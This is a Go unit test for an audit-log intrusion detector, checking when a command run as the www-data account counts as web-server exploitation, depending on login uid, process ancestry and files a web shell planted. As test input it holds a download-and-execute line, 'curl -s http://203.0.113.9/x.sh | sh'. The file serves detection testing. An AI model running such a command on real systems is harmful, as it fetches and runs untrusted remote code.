package detect

import (
	"testing"

	"github.com/auditchain/auditchain/parser"
)

// TestLoginOfAnother: a command run as the web account in a login
// (sudo -u www-data in alice's ssh session: her login uid stays; a login
// into the account itself) is the login's, not the web server's, unless
// its ancestry says otherwise or the intrusion planted what the login
// runs (its startup file) or wrote as the account it logged into; the web
// server's own children (no login uid) are judged by the account.
func TestLoginOfAnother(t *testing.T) {
	const cmd = "curl -s http://203.0.113.9/x.sh | sh"
	for _, c := range []struct {
		name  string
		auid  uint32
		ppid  int    // 200: the php-fpm worker; 300: a login shell
		plant string // a file the web shell wrote first, as www-data
		want  bool
	}{
		{"the web server's child", parser.Unset, 200, "", true},
		{"sudo -u www-data in alice's login", 1000, 300, "", false},
		{"sudo -u www-data in alice's login, below the web server", 1000, 200, "", true},
		{"a login into the web account itself", 33, 300, "", false},
		{"a login into the web account after a web shell was written as it", 33, 300, "/var/www/html/up/x.php", true},
		{"a daemon's child running as the web account", parser.Unset, 300, "", true},
		{"sudo su - www-data runs the profile the intrusion wrote", 1000, 300, "/var/www/.profile", true},
		{"sudo -u www-data after a web shell was written as it", 1000, 300, "/var/www/html/up/x.php", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			if c.plant != "" {
				w := e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", c.plant, true), s.tree)
				if len(w) == 0 {
					t.Fatal("the profile's write is no finding")
				}
			}
			s.exec(300, 1, 0, "root", "/root", "/usr/bin/bash", "-bash")
			ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 400, PPID: c.ppid,
				UID: parser.NewID(33), EUID: parser.NewID(33), AUID: parser.NewID(c.auid), User: "www-data",
				Exe: "/usr/bin/dash", Args: []string{"sh", "-c", cmd}, Cwd: "/var/www"}
			f := findingOf(e.Observe(s.next(ev), s.tree), "web-server-exploitation")
			if (f != nil) != c.want {
				t.Errorf("web-server-exploitation: %v, want %v", f != nil, c.want)
			}
		})
	}
}
